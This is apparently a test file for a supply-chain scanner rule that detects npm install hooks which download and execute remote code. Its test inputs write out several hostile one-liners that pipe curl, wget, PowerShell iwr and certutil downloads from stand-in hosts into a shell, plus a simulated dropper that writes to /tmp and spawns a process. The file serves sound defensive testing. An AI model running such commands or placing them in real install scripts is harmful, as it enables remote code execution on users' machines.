import { describe, expect, it } from 'vitest';
import { at, call, fileStats, flow, packageFacts } from '../rule-test-kit.js';
import { installScriptDownloadExec as rule } from './install-script-download-exec.js';

describe('install-script-download-exec', () => {
  it.each([
    'curl -sL https://payload.invalid/x.sh | sh',
    'wget -qO- http://192.0.2.10/i | bash',
    'curl -o /tmp/x https://payload.invalid/x && chmod +x /tmp/x && /tmp/x',
    'powershell -c "iwr https://payload.invalid/a.ps1 | iex"',
    'certutil -urlcache -f https://payload.invalid/a.exe a.exe && start /b a.exe',
  ])('fires on the hook %s', (command) => {
    const findings = rule.run(packageFacts({ manifest: { installScripts: { postinstall: command } } }));
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ kind: 'threat', severity: 'critical', confidence: 'high' });
  });

  it.each(['node-gyp rebuild', 'prebuild-install || node-gyp rebuild', 'node install.js', 'curl --version'])(
    'is silent on the hook %s',
    (command) => {
      expect(rule.run(packageFacts({ manifest: { installScripts: { install: command } } }))).toEqual([]);
    },
  );

  it('fires on a network → process flow in the file the hook runs, with both ends', () => {
    const get = call('https.get', 'network', at('setup.js', 3), ['https://payload.invalid/x']);
    const spawn = call('child_process.spawn', 'process', at('setup.js', 9), []);
    const findings = rule.run(
      packageFacts({
        manifest: { installScripts: { postinstall: 'node ./setup' } },
        files: [fileStats('setup.js')],
        code: [get, spawn, flow(get, spawn)],
      }),
    );
    expect(findings).toHaveLength(1);
    expect(findings[0]?.source).toEqual(at('setup.js', 3));
    expect(findings[0]?.sink).toEqual(at('setup.js', 9));
  });

  it('ignores the same flow in a file no hook runs (runtime code has its own rules)', () => {
    const get = call('https.get', 'network', at('lib.js', 3));
    const spawn = call('child_process.spawn', 'process', at('lib.js', 9));
    const facts = packageFacts({
      manifest: { installScripts: { postinstall: 'node setup.js' } },
      files: [fileStats('setup.js'), fileStats('lib.js')],
      code: [get, spawn, flow(get, spawn)],
    });
    expect(rule.run(facts)).toEqual([]);
  });

  it('fires on exec of curl|sh from the install file', () => {
    const facts = packageFacts({
      manifest: { installScripts: { preinstall: 'node i.js' } },
      code: [
        call('child_process.exec', 'process', at('i.js', 2), ['curl -s https://payload.invalid/p | sh']),
      ],
    });
    expect(rule.run(facts)).toHaveLength(1);
  });
});

describe('install-script-download-exec without a seen flow', () => {
  const dropper = (path: string, mode: string) =>
    packageFacts({
      manifest: { installScripts: { postinstall: 'node setup.js' } },
      code: [
        call('https.get', 'network', at('setup.js', 2), ['https://payload.invalid/x']),
        call('fs.writeFileSync', 'filesystem-write', at('setup.js', 5), [path, '']),
        call('fs.chmodSync', 'filesystem-write', at('setup.js', 6), [path, mode]),
        call('child_process.spawn', 'process', at('setup.js', 7), ['']),
      ],
    });

  it('fires on download → executable in /tmp → spawn', () => {
    expect(rule.run(dropper('/tmp/x', '493'))).toEqual([
      expect.objectContaining({
        message: 'install-time file downloads, writes an executable to /tmp/x and spawns a process',
      }),
    ]);
  });

  it('is silent when the binary goes into the package itself (esbuild) or is not made executable', () => {
    expect(rule.run(dropper('', '493'))).toEqual([]);
    expect(rule.run(dropper('/tmp/x', '420'))).toEqual([]);
  });
});
